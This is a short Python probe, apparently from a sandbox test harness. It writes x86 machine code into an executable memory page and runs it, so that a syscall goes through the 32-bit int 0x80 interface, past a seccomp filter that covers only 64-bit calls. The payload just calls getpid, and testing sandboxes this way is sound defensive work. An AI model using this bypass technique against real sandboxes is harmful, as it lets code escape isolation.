# attack: call the kernel as a 32-bit program, past a filter for 64 bits
# class: native crash
# wall: seccomp

import ctypes
import mmap

CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, 20 (getpid); int 0x80; ret


def attack(frame, frame_index, config):
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    page.write(CODE)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return f"inside: process {function()}"
